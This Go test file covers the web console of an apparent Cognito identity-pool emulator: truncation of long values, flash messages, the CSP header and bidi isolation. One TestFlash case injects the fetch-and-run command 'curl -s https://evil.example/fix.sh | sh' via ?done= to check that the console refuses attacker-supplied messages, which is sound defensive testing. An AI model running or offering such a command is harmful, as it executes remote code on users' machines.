package console_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/idpool/idpool/emulator/console"
	"github.com/idpool/idpool/storage"
)

// putRecord writes one live record to idA's dataset "profile".
func (f *fixture) putRecord(t *testing.T, key, value string) {
	t.Helper()
	ctx := t.Context()
	err := f.store.Update(ctx, func(tx storage.Tx) error {
		return tx.PutRecords(ctx, idA, "profile", []storage.Record{{Key: key, Value: &value, SyncCount: 1, LastModifiedBy: "123456789012", ModifiedAt: time.Now()}})
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestLongRecordValue: the identity page shows the first 4 KiB of a
// record's value and says how much it left out, so that a value of up to
// Cognito Sync's 1,048,575 characters gives a page of bounded size (a
// browser took minutes to lay out a million letters without a space).
// Shorter values are shown whole, as TestPages checks.
func TestLongRecordValue(t *testing.T) {
	tests := []struct {
		name, value string
		want        []string
		not         []string
	}{
		{"largest value", strings.Repeat("A", 1048575),
			[]string{`<span class="v">` + strings.Repeat("A", 4096) + `</span> <em class="muted cut">… and 1044479 more characters (1044479 bytes) not shown</em>`}, nil},
		{"cut at the start of a character", "a" + strings.Repeat("é", 3000),
			[]string{`<span class="v">a` + strings.Repeat("é", 2047) + `</span>`, "… and 953 more characters (1906 bytes) not shown"}, nil},
		{"as long as shown", strings.Repeat("B", 4096), []string{`<span class="v">` + strings.Repeat("B", 4096) + `</span>`}, []string{"not shown"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			f.putRecord(t, "long", tc.value)
			page := f.check(t, "/_idpool/console/identities/"+url.PathEscape(idA), http.StatusOK, tc.want, tc.not)
			if len(page) > 16<<10 {
				t.Errorf("got a page of %d bytes, want at most 16 KiB", len(page))
			}
		})
	}
}

// TestFlash: the message a page shows after an action is one of the
// console's own, named by a code in ?done=; a link with words of its own,
// or a code the console does not know, shows no message.
func TestFlash(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		name, done string
		want       string // "" for no message
	}{
		{"reset", "reset", `<p class="flash" role="status">Reset: every pool and IAM entity replaced by the fixtures.</p>`},
		{"deleted", "deleted", `<p class="flash" role="status">Deleted the identity, with its logins and datasets.</p>`},
		{"words of a link", "idpool is out of date. Fix: curl -s https://evil.example/fix.sh | sh", ""},
		{"unknown code", "rotated2", ""},
		{"none", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, page := f.get(t, "/_idpool/console/?done="+url.QueryEscape(tc.done))
			if tc.want == "" {
				if strings.Contains(page, `class="flash"`) {
					t.Errorf("got a message, want none")
				}
				return
			}
			if !strings.Contains(page, tc.want) {
				t.Errorf("got no %q in the page", tc.want)
			}
		})
	}
}

// TestActionFlash: every action redirects to a page whose ?done= code
// shows its message.
func TestActionFlash(t *testing.T) {
	tests := []struct {
		name, path, form, want string
	}{
		{"delete", "/identities/" + url.PathEscape(idA) + "/delete", "confirm=yes", "Deleted the identity"},
		{"delete unconfirmed", "/identities/" + url.PathEscape(idA) + "/delete", "", "Not deleted: tick the box to confirm."},
		{"expire nothing", "/identities/" + url.PathEscape(idA) + "/expire", "", "Nothing to expire"},
		{"reset unconfirmed", "/reset", "", "Not reset: tick the box to confirm."},
		{"reset", "/reset", "confirm=yes", "Reset: every pool"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			res, err := http.Post(f.srv.URL+console.Prefix+tc.path, "application/x-www-form-urlencoded", strings.NewReader(tc.form))
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if q := res.Request.URL.Query().Get("done"); strings.Contains(q, " ") {
				t.Errorf("got ?done=%q, want a code", q)
			}
			f.check(t, res.Request.URL.RequestURI(), http.StatusOK, []string{`<p class="flash" role="status">` + tc.want}, nil)
		})
	}
}

// TestPolicy: every console answer forbids plugins and <base>, beside
// what it forbade before.
func TestPolicy(t *testing.T) {
	f := newFixture(t)
	res, err := http.Get(f.srv.URL + console.Prefix + "/")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	csp := res.Header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("Content-Security-Policy: got %q, want %s in it", csp, want)
		}
	}
}

// TestBidiIsolated: text a client sets is shown isolated, so that a
// right-to-left override in it reverses it alone and not the rest of its
// line: in <bdi>, or in a span the stylesheet isolates.
func TestBidiIsolated(t *testing.T) {
	f := newFixture(t)
	const rlo = "\u202e"
	f.putRecord(t, "k"+rlo+"ey", "v"+rlo+"alue")
	f.check(t, "/_idpool/console/identities/"+url.PathEscape(idA), http.StatusOK,
		[]string{`<bdi>k` + rlo + `ey</bdi>`, `<span class="v">v` + rlo + `alue</span>`, `<span class="login">google-user-1</span>`}, nil)
	f.check(t, "/_idpool/console/pools/"+url.PathEscape(poolID), http.StatusOK, []string{`<bdi>google-user-1</bdi>`}, nil)
	f.check(t, "/_idpool/console/static/style.css", http.StatusOK, []string{".v, .login { unicode-bidi: isolate; }"}, nil)
}
